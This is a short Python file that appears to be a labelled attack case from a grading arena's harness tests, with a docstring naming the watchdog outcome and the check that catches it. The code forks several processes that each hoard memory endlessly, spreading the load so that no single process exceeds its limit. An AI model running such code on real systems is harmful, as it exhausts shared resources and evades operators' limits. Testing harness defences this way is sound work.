"""Attack: takes memory without end, in itself and in children, so that no one process is over its limit.
Outcome: a watchdog ends the arena's student; the grade is a grade.
Caught by: server_appears
"""

import os
import time


def main(args=None):
    for _ in range(4):
        if os.fork() == 0:
            break
    hoard = []
    while True:
        try:
            hoard.append(bytearray(os.urandom(1 << 20)) * 16)
        except MemoryError:
            time.sleep(0.05)


if __name__ == "__main__":
    main()
